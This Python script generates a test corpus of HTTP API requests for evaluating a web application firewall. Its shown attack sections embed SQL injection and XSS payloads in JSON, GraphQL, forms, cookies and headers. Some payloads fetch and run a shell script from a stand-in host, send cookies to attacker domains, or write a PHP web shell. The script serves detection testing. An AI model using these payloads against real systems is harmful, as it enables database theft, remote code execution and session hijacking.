#!/usr/bin/env python3
"""Held-out request corpus "apis": modern API traffic, benign and hostile.

    python3 scripts/corpus-apis.py attacks > rulesets/tests/data/apis-attacks.jsonl
    python3 scripts/corpus-apis.py benign  > rulesets/tests/data/apis-benign.jsonl

What a Kubernetes workload behind a sidecar WAF sees: JSON/REST, GraphQL,
webhooks, OAuth/OIDC/SAML, gRPC-gateway/Connect JSON, Kubernetes API objects
and admission reviews, observability queries (PromQL, LogQL, OTLP), search DSLs,
multipart uploads and XML/SOAP. One JSON object per line, in the shape defined by
/work/shared/corpora/README.md (id, set, category, expect, method, uri, version,
headers, body, or raw_b64 for requests that must be sent byte for byte).

* attacks (expect "detect", category = attack class): public techniques
  (PayloadsAllTheThings, HackTricks, PortSwigger Web Security Academy labs,
  published CVE exploits such as Log4Shell, Spring4Shell, Text4Shell,
  Confluence OGNL, Struts S2-045, Drupalgeddon2, GitLab ExifTool, Citrix,
  Fortinet and Apache traversals) put where an API client carries data:
  JSON nested 2-5 levels and in arrays, GraphQL variables, JSON inside JSON
  strings, XML/SOAP, multipart file names and values, bracketed query strings,
  path segments, cookies and headers; sometimes URL-encoded once or twice,
  JSON-unicode-escaped, or with case/comment/whitespace variants.
* benign (expect "pass", category "benign", sub-label in the id such as
  apis/benign/k8s/...): realistic traffic that is hard for a WAF: Kubernetes
  objects with shell commands and SQL/nginx config in ConfigMaps, CI webhooks,
  PromQL/LogQL, Elasticsearch DSL, chat messages, OAuth/OIDC/JWT/SAML,
  Stripe-style bracket forms, GraphQL with fragments, markdown with code
  fences, names with apostrophes, i18n text, CSV uploads, cron expressions,
  regexes, e-mail bodies, and plain REST/health/metrics/gRPC-JSON requests.

The corpus was written blind: without reading Palisade's rules, its rule tests,
or the other corpora, so that it measures how well detection generalises.
Deterministic (fixed seeds), Python 3 standard library only. Bodies are given
as text and a correct Content-Length header is always included.
"""

import base64
import collections
import datetime
import ipaddress
import json
import random
import string
import struct
import sys
import urllib.parse
import zlib

SET = "apis"
SEED_ATTACKS = 20240611
SEED_BENIGN = 20240612

# --------------------------------------------------------------------------
# clients, hosts

UA = {
    "chrome": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "chrome-mac": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "edge": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68",
    "firefox": "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "safari": "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "mobile-safari": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "ios-app": "ShopFront/7.4.2 (com.shopfront.ios; build:7421; iOS 17.5.1) Alamofire/5.9.1",
    "android-app": "okhttp/4.12.0",
    "axios": "axios/1.7.2",
    "node": "node",
    "python": "python-requests/2.32.3",
    "httpx": "python-httpx/0.27.0",
    "go": "Go-http-client/1.1",
    "curl": "curl/8.7.1",
    "java": "Java-http-client/17.0.11",
    "kubectl": "kubectl/v1.30.2 (linux/amd64) kubernetes/3968350",
    "controller": "manager/v0.0.0 (linux/amd64) kubernetes/$Format",
    "kube-apiserver": "kube-apiserver-admission",
    "argocd": "argocd-server/v2.11.3+3f344d5",
    "kube-probe": "kube-probe/1.30",
    "prometheus": "Prometheus/2.53.0",
    "grafana": "Grafana/11.1.0",
    "github": "GitHub-Hookshot/4f1c2b7",
    "gitlab": "GitLab/17.1.1",
    "slack": "Slackbot 1.0 (+https://api.slack.com/robots)",
    "stripe": "Stripe/1.0 (+https://stripe.com/docs/webhooks)",
    "stripe-python": "Stripe/v1 PythonBindings/10.1.0",
    "otel": "OTel OTLP Exporter Go/1.27.0",
    "envoy": "Envoy/HC",
    "sentry": "sentry",
    "alertmanager": "Alertmanager/0.27.0",
    "elastic-js": "elasticsearch-js/8.14.0 (linux 5.15.0-1064-aws-x64; Node.js 20.15.0)",
    "teams": "Microsoft-Teams/1.0",
    "mailgun": "mailgun/treq-22.2.0",
}
BROWSERS = {"chrome", "chrome-mac", "edge", "firefox", "safari", "mobile-safari"}
API_CLIENTS = ["chrome", "chrome", "chrome-mac", "firefox", "safari", "edge", "mobile-safari",
               "ios-app", "android-app", "axios", "node", "python", "python", "httpx", "go",
               "go", "curl", "java"]
API_HOSTS = ["api.shopfront.example", "api.acme-shop.com", "orders.shop.svc.cluster.local:8080",
             "checkout.prod.svc.cluster.local", "gateway.payments.example.net", "app.example.io",
             "backend.internal.example.com", "api.travelbuddy.example", "users.default.svc:8443",
             "api.ledgerly.example"]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.7",
         "ja-JP,ja;q=0.9,en;q=0.6", "ar-SA,ar;q=0.9,en;q=0.8", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.8"]
PUBLIC_FIRST_OCTETS = [23, 31, 34, 35, 44, 52, 54, 62, 77, 81, 91, 104, 141, 151, 176, 185, 188, 195, 212, 213]


# --------------------------------------------------------------------------
# encoders

def enc(v, level=1, safe=""):
    """Percent-encode v `level` times."""
    for _ in range(level):
        v = urllib.parse.quote(v, safe=safe)
    return v


def qs(pairs, level=1, safe="", keysafe="[]"):
    """A query string; values percent-encoded `level` times."""
    return "&".join(f"{urllib.parse.quote(k, safe=keysafe)}={enc(v, level, safe)}" for k, v in pairs)


def formenc(pairs, keysafe="", safe=""):
    """application/x-www-form-urlencoded, as browsers and most clients write it."""
    return "&".join(f"{urllib.parse.quote_plus(k, safe=keysafe)}={urllib.parse.quote_plus(v, safe=safe)}"
                    for k, v in pairs)


def jdump(obj, style="compact"):
    if style == "compact":
        return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    if style == "ascii":
        return json.dumps(obj, separators=(",", ":"))
    if style == "py":
        return json.dumps(obj)
    if style == "pretty":
        return json.dumps(obj, indent=2, ensure_ascii=False)
    if style == "go":  # encoding/json escapes <, > and & inside strings
        s = json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
        return s.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    if style.startswith("esc:"):  # escape the given characters inside strings as \\u00XX
        return jdump_esc(obj, style[4:])
    raise ValueError(style)


def jdump_esc(obj, chars):
    if isinstance(obj, dict):
        return "{" + ",".join(jdump_esc(str(k), chars) + ":" + jdump_esc(v, chars) for k, v in obj.items()) + "}"
    if isinstance(obj, list):
        return "[" + ",".join(jdump_esc(v, chars) for v in obj) + "]"
    if isinstance(obj, str):
        s = json.dumps(obj, ensure_ascii=False)[1:-1]
        for ch in chars:
            s = s.replace(ch, "\\u%04x" % ord(ch))
        return '"' + s + '"'
    return json.dumps(obj)


def soap(ns, inner, version="1.1"):
    env = ("http://schemas.xmlsoap.org/soap/envelope/" if version == "1.1"
           else "http://www.w3.org/2003/05/soap-envelope")
    return ('<?xml version="1.0" encoding="utf-8"?>\n'
            f'<soap:Envelope xmlns:soap="{env}" xmlns:ns="{ns}">\n'
            '  <soap:Header/>\n'
            '  <soap:Body>\n'
            f'    {inner}\n'
            '  </soap:Body>\n'
            '</soap:Envelope>\n')


# --------------------------------------------------------------------------
# corpus

class Tag:
    """Binds a category (and a benign sub-label) to the Corpus request helpers."""

    def __init__(self, corpus, category, sub=None):
        self.c, self.category, self.sub = corpus, category, sub

    def __getattr__(self, name):
        fn = getattr(self.c, name)

        def call(place, *a, **kw):
            return fn(self.category, place, *a, sub=self.sub, **kw)
        return call


class Corpus:
    def __init__(self, seed, expect):
        self.r = random.Random(seed)
        self.expect = expect
        self.rows = []
        self.seq = collections.Counter()

    # ---- random values
    def pick(self, seq):
        return self.r.choice(seq)

    def hex(self, n):
        return "".join(self.r.choice("0123456789abcdef") for _ in range(n))

    def alnum(self, n):
        return "".join(self.r.choice(string.ascii_letters + string.digits) for _ in range(n))

    def uuid(self):
        h = self.hex(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{self.r.choice('89ab')}{h[17:20]}-{h[20:]}"

    def b64url(self, nbytes):
        return base64.urlsafe_b64encode(bytes(self.r.getrandbits(8) for _ in range(nbytes))).rstrip(b"=").decode()

    def ip(self):
        return f"{self.r.choice(PUBLIC_FIRST_OCTETS)}.{self.r.randrange(1, 255)}.{self.r.randrange(0, 255)}.{self.r.randrange(1, 255)}"

    def when(self):
        return datetime.datetime(2024, 6, 3, 7, 0, 0) + datetime.timedelta(seconds=self.r.randrange(0, 86400 * 45))

    def ts(self):
        return self.when().strftime("%Y-%m-%dT%H:%M:%S.") + f"{self.r.randrange(0, 1000):03d}Z"

    def epoch(self):
        return int((self.when() - datetime.datetime(1970, 1, 1)).total_seconds())

    def jwt(self, claims=None, alg="RS256"):
        def b(d):
            return base64.urlsafe_b64encode(json.dumps(d, separators=(",", ":")).encode()).rstrip(b"=").decode()
        now = self.epoch()
        if claims is None:
            claims = {"iss": "https://id.acme-shop.com/", "sub": f"auth0|{self.hex(24)}",
                      "aud": ["https://api.acme-shop.com", "https://id.acme-shop.com/userinfo"],
                      "iat": now, "exp": now + 3600, "azp": self.alnum(32), "scope": "openid profile email read:orders"}
        hdr = {"alg": alg, "typ": "JWT", "kid": self.alnum(22)}
        return f"{b(hdr)}.{b(claims)}.{self.b64url(256 if alg.startswith(('RS', 'PS')) else 64 if alg.startswith('ES') else 32)}"

    # ---- rows
    def _new_id(self, category, place, sub):
        key = f"benign/{sub}" if sub else category
        self.seq[key] += 1
        return f"{SET}/{key}/{self.seq[key]:03d}-{place}"

    def add(self, category, place, method, uri, headers, body=None, sub=None, fields=None):
        row = {"id": self._new_id(category, place, sub), "set": SET, "category": category,
               "expect": self.expect, "method": method, "uri": uri, "version": "HTTP/1.1",
               "headers": headers}
        if body is not None:
            row["body"] = body
        if fields:
            row.update(fields)
        self.rows.append(row)

    def raw(self, category, place, data, sub=None):
        self.rows.append({"id": self._new_id(category, place, sub), "set": SET, "category": category,
                          "expect": self.expect, "raw_b64": base64.b64encode(data).decode()})

    def origin_for(self, host):
        h = host.split(":")[0]
        if h.endswith((".local", ".svc")) or ".svc." in h:
            return "https://www.acme-shop.com"
        if h.startswith("api."):
            return "https://app." + h[4:]
        return "https://" + h

    def headers(self, host, client, accept=None, ctype=None, body=None, extra=(), sidecar=None):
        r = self.r
        ua = UA.get(client, client)
        browser = client in BROWSERS
        given = {k.lower() for k, _ in extra}
        h = [["Host", host]]

        def put(k, v):
            if k.lower() not in given:
                h.append([k, v])
        put("User-Agent", ua)
        if accept is None:
            if browser or client == "axios":
                accept = "application/json, text/plain, */*"
            elif client in ("curl", "python", "httpx", "go", "node"):
                accept = "*/*"
            else:
                accept = "application/json"
        put("Accept", accept)
        if browser:
            put("Accept-Language", r.choice(LANGS))
            put("Accept-Encoding", "gzip, deflate, br, zstd" if client in ("chrome", "chrome-mac", "edge") else "gzip, deflate, br")
            if client in ("chrome", "chrome-mac", "edge"):
                brand = "Microsoft Edge" if client == "edge" else "Google Chrome"
                put("sec-ch-ua", f'"Not/A)Brand";v="8", "Chromium";v="126", "{brand}";v="126"')
                put("sec-ch-ua-mobile", "?0")
                put("sec-ch-ua-platform", '"macOS"' if client == "chrome-mac" else '"Windows"')
        elif client in ("python", "httpx"):
            put("Accept-Encoding", "gzip, deflate")
            put("Connection", "keep-alive")
        elif client in ("axios", "go", "android-app", "ios-app", "java", "node"):
            put("Accept-Encoding", "gzip" if client != "ios-app" else "br;q=1.0, gzip;q=0.9, deflate;q=0.8")
        if ctype:
            put("Content-Type", ctype)
        if browser:
            if ctype:
                put("Origin", self.origin_for(host))
            put("Sec-Fetch-Site", "same-site")
            put("Sec-Fetch-Mode", "cors")
            put("Sec-Fetch-Dest", "empty")
        for k, v in extra:
            h.append([k, v])
        if sidecar is None:
            sidecar = r.random() < 0.7
        if sidecar:
            put("X-Forwarded-For", self.ip() if r.random() < 0.6 else f"{self.ip()}, 10.{r.randrange(0, 255)}.{r.randrange(0, 255)}.{r.randrange(1, 255)}")
            put("X-Forwarded-Proto", "https")
            put("X-Request-Id", self.uuid())
            if r.random() < 0.5:
                put("traceparent", f"00-{self.hex(32)}-{self.hex(16)}-01")
            else:
                put("X-B3-TraceId", self.hex(32))
                put("X-B3-SpanId", self.hex(16))
                put("X-B3-Sampled", "1")
            put("X-Envoy-Attempt-Count", "1")
        if body is not None:
            put("Content-Length", str(len(body.encode("utf-8"))))
        return h

    # ---- request helpers: (category, place, ..., sub=None, **kw)
    def get(self, category, place, uri, sub=None, host=None, client=None, accept=None, extra=(),
            method="GET", sidecar=None, fields=None):
        host = host or self.pick(API_HOSTS)
        client = client or self.pick(API_CLIENTS)
        h = self.headers(host, client, accept=accept, extra=extra, sidecar=sidecar)
        self.add(category, place, method, uri, h, sub=sub, fields=fields)

    def send(self, category, place, method, uri, body, ctype, sub=None, host=None, client=None,
             accept=None, extra=(), sidecar=None, fields=None):
        host = host or self.pick(API_HOSTS)
        client = client or self.pick(API_CLIENTS)
        h = self.headers(host, client, accept=accept, ctype=ctype, body=body, extra=extra, sidecar=sidecar)
        self.add(category, place, method, uri, h, body=body, sub=sub, fields=fields)

    def json(self, category, place, uri, obj, sub=None, method="POST", style=None, ctype=None,
             client=None, **kw):
        client = client or self.pick(API_CLIENTS)
        if style is None:
            style = {"python": "py", "go": "go", "controller": "go", "kube-apiserver": "go"}.get(client, "compact")
        body = obj if isinstance(obj, str) else jdump(obj, style)
        if ctype is None:
            ctype = "application/json; charset=utf-8" if (client in ("java", "android-app", "axios") and self.r.random() < 0.5) else "application/json"
        self.send(category, place, method, uri, body, ctype, sub=sub, client=client, **kw)

    def form(self, category, place, uri, pairs, sub=None, method="POST", keysafe="", safe="",
             client=None, **kw):
        client = client or self.pick(API_CLIENTS)
        body = pairs if isinstance(pairs, str) else formenc(pairs, keysafe, safe)
        ctype = "application/x-www-form-urlencoded"
        if client in BROWSERS and self.r.random() < 0.4:
            ctype += "; charset=UTF-8"
        self.send(category, place, method, uri, body, ctype, sub=sub, client=client, **kw)

    def xml(self, category, place, uri, text, sub=None, method="POST", ctype="application/xml", **kw):
        self.send(category, place, method, uri, text, ctype, sub=sub, **kw)

    def mp(self, category, place, uri, parts, sub=None, method="POST", client=None, **kw):
        client = client or self.pick(API_CLIENTS)
        if client in BROWSERS:
            b = "----WebKitFormBoundary" + self.alnum(16)
        elif client == "curl":
            b = "------------------------" + self.hex(16)
        elif client in ("python", "httpx"):
            b = self.hex(32)
        else:
            b = self.uuid()
        lines = []
        for p in parts:
            lines.append("--" + b)
            cd = f'Content-Disposition: form-data; name="{p["name"]}"'
            if "filename" in p:
                cd += f'; filename="{p["filename"]}"'
            lines.append(cd)
            if "filename" in p or p.get("ctype"):
                lines.append("Content-Type: " + p.get("ctype", "application/octet-stream"))
            lines.append("")
            lines.append(p["value"])
        lines.append("--" + b + "--")
        lines.append("")
        body = "\r\n".join(lines)
        self.send(category, place, method, uri, body, "multipart/form-data; boundary=" + b, sub=sub,
                  client=client, **kw)

    def gql(self, category, place, uri, query, variables, sub=None, op=None, style=None, **kw):
        obj = {}
        if op:
            obj["operationName"] = op
        obj["variables"] = variables
        obj["query"] = query
        kw.setdefault("accept", "application/graphql-response+json, application/json")
        self.json(category, place, uri, obj, sub=sub, style=style, **kw)


def raw_request(lines, body=b""):
    """Bytes of a request from header lines (str) and a body (bytes or str)."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


# ==========================================================================
# ATTACKS
# ==========================================================================

OAST = ["c8q2k1s3vtc0000gq9h0gd7x8cyyyyyb.oast.fun", "d1f0x7.oast.live", "x9k2.callback.attacker-infra.net",
        "cb.ev1l-labs.example", "a3b4c5.interact.sh"]
EVIL = ["198.51.100.23", "203.0.113.66", "192.0.2.140", "evil.example.net", "cdn-static.attacker.example"]

GQL_SEARCH = ("query SearchProducts($search: String!, $first: Int) {\n"
              "  products(search: $search, first: $first) {\n"
              "    edges { node { id name price { amount currency } } }\n"
              "    pageInfo { hasNextPage endCursor }\n"
              "  }\n}")
GQL_UPDATE_PROFILE = ("mutation UpdateProfile($input: UpdateProfileInput!) {\n"
                      "  updateProfile(input: $input) { user { id displayName bio } errors { field message } }\n}")
PDF_STUB = "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"
PNG_STUB = "PNG-placeholder-bytes"  # file content irrelevant where used


def atk_sqli(c):
    t = Tag(c, "sqli")
    t.get("query", "/api/v1/orders?" + qs([("id", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"), ("expand", "items")]), client="python")
    t.get("query-sort", "/api/v2/products?" + qs([("category", "outdoor"), ("sort", "(CASE WHEN (SELECT SUBSTRING(password_hash,1,1) FROM users WHERE username='admin')='$' THEN price ELSE name END)"), ("limit", "24")]), client="chrome")
    t.get("query-bracket", "/api/v1/customers?" + qs([("filter[email]", "x' OR 1=1-- -"), ("page[size]", "25")]), client="axios")
    t.get("query-bracket", "/api/v1/users?" + qs([("where[name][like]", "%' UNION SELECT id,email,password_hash,NULL FROM users-- "), ("select[]", "id"), ("select[]", "name")], keysafe=""))
    t.get("path-segment", "/api/v2/users/" + enc("0 UNION SELECT username,password,3,4 FROM admin_users") + "/profile", client="curl")
    t.get("path-segment", "/api/v1/reports/" + enc("2024-Q1';SELECT pg_sleep(10)--", safe="'") + "/download", client="go")
    t.json("json-nested", "/api/v2/orders/search", {"filter": {"and": [{"field": "status", "op": "eq", "value": "shipped"}, {"field": "customer.email", "op": "like", "value": "%' AND 1=CAST((SELECT string_agg(email||':'||password_hash,',') FROM users) AS int)-- "}]}, "page": {"size": 50, "cursor": None}})
    t.json("json-array", "/api/v1/invoices/bulk-status", {"ids": [40211, 40212, "40213) UNION SELECT number,total,customer_id FROM invoices WHERE (1=1"], "fields": ["id", "status"]})
    t.gql("graphql-variables", "/graphql", GQL_SEARCH, {"search": "shoe' UNION SELECT table_name,column_name,NULL FROM information_schema.columns-- -", "first": 20}, op="SearchProducts", client="chrome")
    t.gql("graphql-variables", "/v1/graphql", "query Inventory($where: inventory_bool_exp!) {\n  inventory(where: $where, limit: 50) { sku qty warehouse { code } }\n}", {"where": {"_and": [{"warehouse": {"code": {"_eq": "BER-2"}}}, {"sku": {"_eq": "AB-1' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- "}}]}}, op="Inventory")
    t.json("json-in-string", "/api/v1/events", {"type": "search.performed", "source": "web", "ts": c.ts(), "payload": json.dumps({"term": "x' OR '1'='1", "limit": 10, "facets": ["brand"]})})
    t.form("form", "/api/auth/login", [("username", "admin'-- "), ("password", "irrelevant"), ("remember", "1")], client="firefox")
    t.form("form", "/account/password-reset", [("email", "jane@example.com' AND (SELECT 5230 FROM (SELECT(SLEEP(5)))QvEn) AND 'hTbx'='hTbx")], client="chrome")
    t.get("cookie", "/api/v1/recommendations", extra=[("Cookie", "TrackingId=x4QhLw8XQ2Vb'||pg_sleep(10)--; session=" + c.alnum(32))], client="chrome")
    t.get("cookie", "/", accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", extra=[("Cookie", "TrackingId=" + enc("' UNION SELECT EXTRACTVALUE(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % remote SYSTEM \"http://" + OAST[0] + "/\"> %remote;]>'),'/l') FROM dual--", safe="'(),=") + "; session=" + c.alnum(32))], client="firefox")
    t.get("header-xff", "/api/v1/geo/nearest-store", extra=[("X-Forwarded-For", "127.0.0.1' AND (SELECT 1 FROM pg_sleep(5)) IS NULL-- ")])
    t.get("header-user-agent", "/api/v1/session", client="Mozilla/5.0 (X11; Linux x86_64)'; WAITFOR DELAY '0:0:7'--")
    t.get("header-referer", "/api/v1/analytics/pageview", extra=[("Referer", "https://www.google.com/search?q=1' UNION SELECT NULL,@@version-- -")])
    t.mp("multipart-field", "/api/v1/documents", [dict(name="description", value="quarterly report', (SELECT group_concat(username,0x3a,password) FROM users))-- -"), dict(name="file", filename="q2-report.pdf", ctype="application/pdf", value=PDF_STUB)], client="chrome")
    t.xml("soap", "/services/CustomerService", soap("urn:acme:crm:v2", "<ns:GetCustomer><ns:customerId>1; EXEC master..xp_cmdshell 'ping -n 3 198.51.100.23'--</ns:customerId></ns:GetCustomer>"), ctype="text/xml; charset=utf-8", extra=[("SOAPAction", '"urn:acme:crm:v2/GetCustomer"')], client="java")
    t.xml("xml", "/api/v1/orders", "<?xml version=\"1.0\"?>\n<order>\n  <items><item sku=\"TEE-42\" qty=\"2\"/></items>\n  <coupon>SUMMER24' OR 'a'='a</coupon>\n</order>")
    t.get("query-double-encoded", "/api/v1/search?" + qs([("q", "laptop' UNION SELECT name,pass FROM members-- -"), ("page", "1")], level=2))
    t.get("query-comments", "/api/v1/articles?" + qs([("id", "1/**/UnIoN/**/sElEcT/**/1,2,group_concat(username,0x3a,password)/**/fRoM/**/users")], safe="/*,()"))
    t.json("json-nested", "/api/v1/content/blocks", {"page": {"layout": {"blocks": [{"type": "hero"}, {"type": "product-grid", "source": {"collection_id": "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,database(),3,4-- -"}}]}}})
    t.get("query-whitespace", "/api/v1/catalog/items?" + qs([("category", "4\nUNION\tSELECT\nuser,authentication_string\nFROM\tmysql.user#")]))
    t.json("json-nested", "/api/v3/crm/lookup", {"lookup": {"customer": {"ref": "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)--", "region": "EMEA"}}}, client="java")
    t.form("form", "/api/legacy/search.aspx", [("term", "widget'; IF (1=1) WAITFOR DELAY '0:0:5'--"), ("site", "uk")], client="edge")
    t.get("query", "/api/v1/notes?" + qs([("tag", "' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--")]), client="ios-app")
    t.json("json-nested", "/api/v1/exports", {"export": {"format": "csv", "query": {"account_id": "7; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.66/p.sh|sh'--"}}}, client="python")
    t.get("path-segment", "/api/v1/items/" + enc("1 AND ASCII(SUBSTRING((SELECT password FROM users WHERE id=1),1,1))>77", safe="(),>=") + "/reviews", client="chrome")
    t.get("query", "/api/v1/i18n/messages?" + qs([("lang", "en' AND updatexml(1,concat(0x7e,(SELECT database()),0x7e),1)-- -")]))
    t.json("json-unicode-escaped", "/api/v1/auth/login", '{"login":{"email":"admin@acme-shop.com\\u0027 OR \\u00271\\u0027=\\u00271","password":"x"}}', client="node")
    t.json("json-nested", "/api/v2/sessions", {"credentials": {"login": "admin' OR 1=1 LIMIT 1 OFFSET 1 -- -", "password": "hunter2"}, "device": {"id": c.uuid(), "os": "android"}}, client="android-app")
    t.json("json-nested", "/api/v1/reports/run", {"report": {"pagination": {"limit": "10 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,version())),1)", "offset": 0}}})
    t.get("query", "/api/v1/products/compare?" + qs([("ids[]", "12"), ("ids[]", "13 AND 7741=BENCHMARK(5000000,MD5(0x41424344))")]), client="curl")
    t.json("json-array", "/api/v1/cart/items", {"items": [{"sku": "SHOE-9", "qty": 1}, {"sku": "'; exec master..xp_dirtree '//" + OAST[1] + "/a'--", "qty": 1}]})
    t.get("query-bracket", "/api/v1/tickets?" + qs([("filter[status]", "open"), ("filter[assignee]", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--")]), client="edge")
    t.form("form", "/api/v1/newsletter/subscribe", [("email", "a@b.co' UNION SELECT '<?php system($_GET[\"c\"]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- -")], client="curl")
    t.json("json-nested", "/api/v2/assets/search", {"query": {"meta": {"tags": ["summer", "a')) OR 1=1--"]}}, "limit": 100})
    t.gql("graphql-mutation", "/graphql", "mutation Login($email: String!, $password: String!) {\n  login(email: $email, password: $password) { token user { id role } }\n}", {"email": "admin@acme-shop.com' #", "password": "anything"}, op="Login")
    t.get("query", "/api/v1/users?" + qs([("fields", "id,name,(select password from users limit 1) as x"), ("limit", "1")], safe=","))
    t.get("query-bracket", "/api/v2/orders?" + qs([("filter[created_at][gt]", "2024-01-01' AND 1=(SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')-- ")]), client="firefox")
    t.get("query-json", "/api/Products?" + qs([("filter", json.dumps({"where": {"name": "x' OR 1=1--"}, "limit": 10}))]), client="axios")
    t.get("query", "/api/v1/export?" + qs([("id", "-1 UNION SELECT 1,load_file(0x2f6574632f706173737764),3")], safe=",()"), client="python")
    t.json("json-nested", "/api/v1/users/search", {"criteria": {"name": {"contains": "' UNION SELECT CHAR(117,115,101,114),password FROM users--"}}}, client="go")
    t.get("header", "/api/v1/billing/plans", extra=[("X-Tenant-ID", "acme' AND 1=(SELECT COUNT(*) FROM information_schema.tables)-- "), ("Authorization", "Bearer " + c.jwt())])
    t.json("json-double-encoded", "/api/v1/webhooks/inbound", {"provider": "formbuilder", "body": json.dumps({"fields": [{"id": "q1", "answer": "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x7176,(SELECT user()),0x7178,0x78))s), 8446744073709551610, 8446744073709551610)))-- "}]})})
    t.xml("soap12", "/ws/InventoryPort", soap("http://acme.example/inventory", "<ns:CheckStock><ns:sku>X-1\" OR \"1\"=\"1</ns:sku><ns:warehouse>2</ns:warehouse></ns:CheckStock>", version="1.2"), ctype='application/soap+xml; charset=utf-8; action="http://acme.example/inventory/CheckStock"', client="java")
    t.get("path-segment", "/api/v1/categories/" + enc("shoes'||(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)||'", safe="'|()=") + "/items")
    t.mp("multipart-field", "/api/v1/import/contacts", [dict(name="list_id", value="12 OR 1=1; DROP TABLE contacts--"), dict(name="file", filename="contacts.csv", ctype="text/csv", value="email,name\nann@example.com,Ann\n")], client="python")


def atk_xss(c):
    t = Tag(c, "xss")
    t.json("json-nested", "/api/v1/posts/8812/comments", {"comment": {"body": "<script>fetch('https://" + OAST[2] + "/c?'+document.cookie)</script>", "parent_id": None}, "notify": True}, client="chrome")
    t.json("json-nested", "/api/v1/me", {"profile": {"displayName": "\"><img src=x onerror=alert(document.domain)>", "locale": "en-US"}}, method="PATCH", client="firefox")
    t.gql("graphql-variables", "/graphql", GQL_UPDATE_PROFILE, {"input": {"bio": "hi <svg/onload=alert(1)>", "website": "https://example.org"}}, op="UpdateProfile", client="chrome")
    t.json("json-go-escaped", "/api/v1/products/331/reviews", {"review": {"rating": 5, "text": "<img src=x onerror=alert(document.cookie)>"}}, style="go", client="go")
    t.get("query", "/api/v1/search?" + qs([("q", "<script>alert(document.domain)</script>"), ("type", "all")]), client="chrome", accept="text/html,application/xhtml+xml,*/*;q=0.8")
    t.get("query", "/login?" + qs([("next", "javascript:alert(document.cookie)")]), client="safari", accept="text/html,*/*;q=0.8")
    t.get("query-double-encoded", "/auth/logout?" + qs([("returnUrl", "javascript:alert(1)//")], level=2), client="chrome")
    t.mp("multipart-filename", "/api/v1/avatars", [dict(name="avatar", filename="<svg onload=alert(1)>.png", ctype="image/png", value=PNG_STUB + "IHDR")], client="chrome")
    t.mp("multipart-svg", "/api/v1/media", [dict(name="file", filename="logo.svg", ctype="image/svg+xml", value='<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">\n  <rect width="100" height="100" fill="#0af"/>\n  <script type="text/javascript">alert(document.domain)</script>\n</svg>'), dict(name="folder", value="brand")], client="firefox")
    t.mp("multipart-html", "/api/v1/attachments", [dict(name="file", filename="invoice.html", ctype="text/html", value="<html><body><h1>Invoice</h1><script>document.location='https://" + EVIL[3] + "/?c='+document.cookie</script></body></html>")], client="chrome")
    t.get("path-segment", "/api/v1/docs/" + enc("<script>alert(1)</script>"), client="curl", accept="text/html")
    t.get("header-user-agent", "/api/v1/support/tickets", client="\"><script src=https://xss.report/c/acmeshop></script>")
    t.get("header-referer", "/api/v1/track/visit", extra=[("Referer", "https://www.google.com/\"><svg onload=alert(1)>")], client="chrome")
    t.json("json-markdown", "/api/v1/wiki/pages/onboarding", {"page": {"title": "Onboarding", "markdown": "Welcome!\n\n[Click here to start](javascript:alert(document.cookie))\n"}}, method="PUT", client="chrome")
    t.json("json-markdown", "/api/v1/issues/42/comments", {"body": "see screenshot ![img](x\" onerror=\"alert(1))"}, client="firefox")
    t.json("json-nested", "/api/v1/storefront/settings", {"store": {"banner": {"headline": "{{constructor.constructor('alert(document.domain)')()}}"}}}, method="PUT", client="chrome")
    t.json("json-nested", "/api/v2/tickets", {"ticket": {"subject": "Refund", "messages": [{"html": "<details open ontoggle=alert(1)>"}]}})
    t.json("json-nested", "/api/v1/newsletter/templates", {"template": {"blocks": [{"kind": "text", "html": "<a href=\"jav&#x09;ascript:alert(1)\">Unsubscribe</a>"}]}}, client="edge")
    t.json("json-nested", "/api/v1/notes", {"note": {"content": {"html": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"}}}, client="chrome")
